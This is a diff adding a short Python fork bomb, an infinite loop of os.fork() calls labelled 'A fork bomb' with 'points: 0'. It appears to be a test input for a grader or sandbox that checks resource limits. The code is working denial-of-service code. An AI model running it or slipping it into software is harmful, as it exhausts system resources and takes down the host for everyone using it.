@@ -1,0 +1,6 @@
+# A fork bomb
+# points: 0
+import os
+
+while True:
+    os.fork()
